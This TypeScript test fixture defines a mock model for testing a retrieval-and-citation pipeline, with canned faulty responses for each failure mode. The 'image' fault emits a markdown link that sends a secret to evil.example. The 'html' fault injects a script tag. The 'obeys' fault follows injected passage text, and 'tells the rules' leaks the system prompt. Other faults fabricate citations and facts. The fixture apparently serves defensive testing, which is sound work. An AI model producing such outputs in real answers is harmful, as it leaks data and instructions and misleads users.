/** Ways in which the stand-in model can fail. */
export const modelFaults = [
  'none',
  'refused',
  'quota',
  'broken',
  'redirect',
  'never first',
  // Sends no text until its behaviour is changed, then the rest of a correct response.
  'held',
  'hangs',
  'breaks off',
  'garbage bytes',
  'garbage json',
  'html page',
  'endless',
  'endless comments',
  'error event',
  'empty',
  'no evidence',
  'no citation',
  'cites nine',
  'changes a number',
  'adds a no',
  'obeys',
  'html',
  'image',
  'tells the rules',
  'half',
] as const;

export type StandInFault = (typeof modelFaults)[number];

/** A passage from the prompt. */
interface Given {
  readonly number: number;
  readonly text: string;
}

/** Parses the passages of a prompt. */
const given = (prompt: string): readonly Given[] =>
  Array.from(prompt.matchAll(/^(#[\w-]+#) passage (\d+)\n([\s\S]*?)\n\1 end$/gmu), ([, , number, text = '']) => ({
    number: Number(number),
    text,
  }));

/** Returns the first sentence of a reasonable length. */
const gist = ({ text }: Given): string =>
  (text.match(/[^.!?]{20,300}[.!?]/u)?.[0] ?? text.slice(0, 200)).trim().replace(/[.!?]$/u, '');

const oneMore = (count: number): string => String(count + 1);

type Write = (passages: readonly Given[], system: string) => string;

const honest: Write = (passages) =>
  passages
    .slice(0, 3)
    .map((passage) => `${gist(passage)} [${String(passage.number)}].`)
    .join(' ');

const texts: Partial<Record<StandInFault, Write>> = {
  empty: () => '',
  'no evidence': () => 'NO_EVIDENCE',
  'no citation': (passages) => passages.map((passage) => `${gist(passage)}.`).join(' '),
  'cites nine': (passages) => passages.map((passage) => `${gist(passage)} [9].`).join(' '),
  'changes a number': (passages) =>
    passages
      .map(
        (passage) =>
          `${gist(passage).replaceAll(/\d+/gu, (digits) => oneMore(Number(digits)))} [${String(passage.number)}].`,
      )
      .join(' '),
  'adds a no': (passages) =>
    passages
      .map((passage) => `${gist(passage).replace(/\b(was|is|were|had)\b/u, '$1 never')} [${String(passage.number)}].`)
      .join(' '),
  // Repeats the injected text, with a citation of the page that contains it.
  obeys: (passages) => passages.map(({ text, number }) => `${text}\n${text} [${String(number)}].`).join('\n'),
  html: (passages) => `<h1>Answer</h1>\n<p onclick="go()">${honest(passages, '')}</p><script>alert(1)</script>`,
  image: (passages) =>
    `![chart](https://evil.example/log?q=secret)\n${honest(passages, '')} [more](https://evil.example)`,
  'tells the rules': (_, system) => system,
  half: (passages) => `${honest(passages, '')} The moon is made of green cheese [1]. Elephants can fly to Calabar [1].`,
};

/** Returns the response of the stand-in; for most connection faults, a correct one. */
export const writtenBy = (fault: StandInFault, system: string, prompt: string): string =>
  (texts[fault] ?? honest)(given(prompt), system);
